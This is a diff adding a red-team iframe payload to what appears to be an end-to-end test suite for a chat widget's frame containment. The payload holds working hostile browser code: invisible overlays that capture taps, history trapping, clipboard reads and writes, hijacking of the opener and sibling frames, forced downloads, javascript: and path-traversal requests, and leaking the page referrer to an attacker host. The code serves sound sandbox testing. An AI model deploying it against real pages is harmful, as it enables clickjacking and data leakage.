@@ -138,3 +138,104 @@ export function hostilePayload(attacker: string): string {
 })();
 `;
 }
+
+/**
+ * The red-team pass of the frame containment (e2e/containmentMore.test.ts): a hostile frame that waits
+ * for the host page to name a mode (`Parley.push(['page', 'redteam', { mode }])`, which the loader
+ * passes on its port as page context: the test's way to start one attack at a time), and logs each
+ * attempt as `PARLEY-ATTACK <what> <result>`. Always, at load: what it can see of the page that framed
+ * it (document.referrer, ancestorOrigins) and the features it is allowed.
+ *  - files: every 100 ms, downloads of its own (blob:, data:, a Parley file with `download`) and
+ *    requests to the loader to open paths (a Parley attachment, other Parley paths, other origins,
+ *    javascript:, data:);
+ *  - transparent: its document made transparent and its content invisible (it still takes the taps);
+ *  - referrer: sends document.referrer to the attacker by navigating itself;
+ *  - back: on every click, history.back() (the entry before it is the page's own);
+ *  - history: on every click, 50 history.pushState, then history.back(), history.go(-1), go(-2);
+ *  - misc: on every click, the clipboard (read, write, execCommand('copy')), the opener and the page's
+ *    other frames (navigating them), scrolling or resizing the page (scrollIntoView, focus, resizeTo), print(), alert(),
+ *    notifications; and any text dropped on it.
+ */
+export function redTeamPayload(attacker: string): string {
+  return `
+;(function () {
+  var A = ${JSON.stringify(attacker)}, port = null, mode = '', n = 0;
+  function log(m) { console.log('PARLEY-ATTACK ' + m); }
+  function attempt(what, fn) { try { var r = fn(); log(what + ' ' + (r === undefined ? 'ok' : String(r))); } catch (e) { log(what + ' ' + e.name); } }
+  log('REFERRER ' + document.referrer);
+  log('ANCESTORS ' + Array.prototype.join.call(location.ancestorOrigins || [], ' '));
+  try { log('FEATURES ' + document.featurePolicy.allowedFeatures().join(' ')); } catch (e) { log('FEATURES ' + e.name); }
+  addEventListener('message', function (e) {
+    if (!e.ports || !e.ports[0] || port) return;
+    port = e.ports[0];
+    port.addEventListener('message', function (m) {
+      var d = m.data;
+      if (Array.isArray(d) && d[0] === 'redteam' && d[1] && d[1].mode !== mode) { mode = d[1].mode; log('MODE ' + mode); start(); }
+    });
+  });
+  function download(href, name) { var a = document.createElement('a'); a.href = href; a.download = name; document.body.appendChild(a); a.click(); a.remove(); }
+  function start() {
+    if (mode === 'files') {
+      var t = setInterval(function () {
+        if (++n > 200) return clearInterval(t);
+        var real = document.querySelector('a.file-link');
+        var path = real ? real.getAttribute('href') : '/files/att_nofile/0123456789abcdef';
+        try { download(URL.createObjectURL(new Blob(['dropped ' + n])), 'blob-drop-' + n + '.txt'); } catch (e) {}
+        try { download('data:text/plain,data-drop-' + n, 'data-drop-' + n + '.txt'); } catch (e) {}
+        if (real) try { download(path, 'parley-drop-' + n + '.pdf'); } catch (e) {}
+        var asks = [path, '/files/att_nofile/0123456789abcdef', '/api/widget/config', '/widget/frame/', '/files/att_x/0123456789/../../api',
+          A + path, '//' + A.replace(/^https?:\\/\\//, '') + path, location.origin + path, 'javascript:alert(1)', 'data:text/html,<b>x</b>', ['redteam'], { file: path }];
+        if (port) asks.forEach(function (p) { try { port.postMessage(p); } catch (e) {} });
+        if (n % 20 === 1) log('FILES asked ' + n + ' ' + path);
+      }, 100);
+    } else if (mode === 'transparent') {
+      [document.documentElement, document.body].forEach(function (el) {
+        el.style.setProperty('background', 'transparent', 'important');
+        el.style.setProperty('color-scheme', 'normal', 'important');
+      });
+      // Invisible, but still there: it takes the taps meant for the page it shows through.
+      Array.prototype.forEach.call(document.body.children, function (c) { c.style.setProperty('opacity', '0', 'important'); });
+      log('TRANSPARENT done');
+    } else if (mode === 'referrer') {
+      setTimeout(function () { location.href = A + '/referrer?r=' + encodeURIComponent(document.referrer); }, 300);
+    }
+  }
+  addEventListener('click', function () {
+    if (mode === 'back') {
+      attempt('HISTORY length', function () { return history.length; });
+      attempt('HISTORY back', function () { history.back(); });
+    } else if (mode === 'history') {
+      attempt('HISTORY before', function () { return history.length; });
+      for (var i = 0; i < 50; i++) attempt('HISTORY push', function () { history.pushState({ i: i }, '', '?trap=' + i); });
+      attempt('HISTORY after', function () { return history.length; });
+      attempt('HISTORY back', function () { history.back(); });
+      attempt('HISTORY go-1', function () { history.go(-1); });
+      attempt('HISTORY go-2', function () { history.go(-2); });
+    } else if (mode === 'misc') {
+      try { navigator.clipboard.readText().then(function (t) { log('CLIP read ' + t); }, function (e) { log('CLIP read ' + e.name); }); } catch (e) { log('CLIP read ' + e.name); }
+      try { navigator.clipboard.writeText('ATTACKER-CLIP-WRITE').then(function () { log('CLIP write ok'); }, function (e) { log('CLIP write ' + e.name); }); } catch (e) { log('CLIP write ' + e.name); }
+      attempt('CLIP exec', function () {
+        var ta = document.createElement('textarea'); ta.value = 'ATTACKER-CLIP-EXEC'; document.body.appendChild(ta); ta.select();
+        var ok = document.execCommand('copy'); ta.remove(); return ok;
+      });
+      attempt('NAME', function () { return JSON.stringify(window.name); });
+      attempt('TOPNAME', function () { return top.name; });
+      attempt('OPENER', function () { return String(window.opener) + ' top.opener=' + (top.opener ? 'present' : 'null'); });
+      attempt('OPENER navigate', function () { if (top.opener) top.opener.location.href = A + '/opener'; return !!top.opener; });
+      attempt('SIBLINGS', function () { return top.length; });
+      for (var k = 0; k < top.length; k++) (function (k) { attempt('SIBLING navigate', function () { if (top.frames[k] !== window) top.frames[k].location.href = A + '/sibling'; }); })(k);
+      attempt('SCROLL', function () { document.documentElement.scrollIntoView(); var i = document.querySelector('textarea, input'); if (i) { i.scrollIntoView({ block: 'end' }); i.focus(); } });
+      attempt('TOPSCROLL', function () { top.scrollTo(0, 0); });
+      attempt('TOPRESIZE', function () { top.resizeTo(200, 200); });
+      attempt('RESIZE', function () { window.resizeTo(5000, 5000); return innerWidth + 'x' + innerHeight; });
+      attempt('PRINT', function () { window.print(); });
+      attempt('ALERT', function () { alert('x'); });
+      try { Notification.requestPermission().then(function (p) { log('NOTIFY ' + p); }); } catch (e) { log('NOTIFY ' + e.name); }
+    }
+  }, true);
+  addEventListener('dragover', function (e) { e.preventDefault(); if (mode === 'misc') log('DRAGOVER types=' + Array.prototype.join.call(e.dataTransfer.types, ',') + ' data=' + e.dataTransfer.getData('text/plain')); }, true);
+  addEventListener('drop', function (e) { e.preventDefault(); log('DROP ' + e.dataTransfer.getData('text/plain')); }, true);
+  log('LOADED');
+})();
+`;
+}
